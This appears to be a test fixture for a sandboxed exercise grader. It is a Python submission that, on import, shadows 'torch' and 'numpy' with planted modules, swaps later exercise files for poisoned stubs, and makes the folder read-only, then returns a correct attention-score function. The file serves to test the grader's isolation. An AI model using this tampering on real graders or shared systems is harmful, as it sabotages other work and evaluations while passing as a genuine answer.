"""Attack: at import, make the later exercises import the attacker's code
instead of their own, another way than overwriting their files: plant a
``torch.py`` and a ``numpy.py`` beside the files (the import folder comes
first on sys.path), move each later exercise file aside and put a poisoned
one under its name (rename, not open for writing), and make the folder
read-only so that nothing can clean it; then correct answers.

Without the sandbox each exercise imports from a fresh folder of its own:
the later ones never see any of this (the attack logs what it did in the
test's folder, which shows it ran). In the sandbox the one copy of the
submission is read-only to every child: every step is refused, no log.
"""
import glob
import os

import torch

ATTACK_DIR = "__ATTACK_DIR__"
POISON = 'raise SystemExit("planted by ex2_scores")\n'
here = os.getcwd()
done = []
for name in ("torch.py", "numpy.py"):
    try:
        with open(os.path.join(here, name), "x") as f:
            f.write(POISON)
        done.append(name)
    except OSError:
        pass
for path in sorted(glob.glob(os.path.join(here, "ex[3-7]_*.py"))):
    try:
        os.rename(path, path + ".moved")
        with open(path, "x") as f:
            f.write(POISON)
        done.append(os.path.basename(path))
    except OSError:
        pass
try:
    os.chmod(here, 0o555)
    done.append("chmod")
except OSError:
    pass
try:
    with open(os.path.join(ATTACK_DIR, "plant-log.txt"), "w") as f:
        f.write("\n".join(done))
except OSError:
    pass


def attention_scores(q: torch.Tensor, k: torch.Tensor) -> torch.Tensor:
    return torch.einsum("bih,bjh->bij", q, k)  # (B, T, T): q[b, i] . k[b, j]
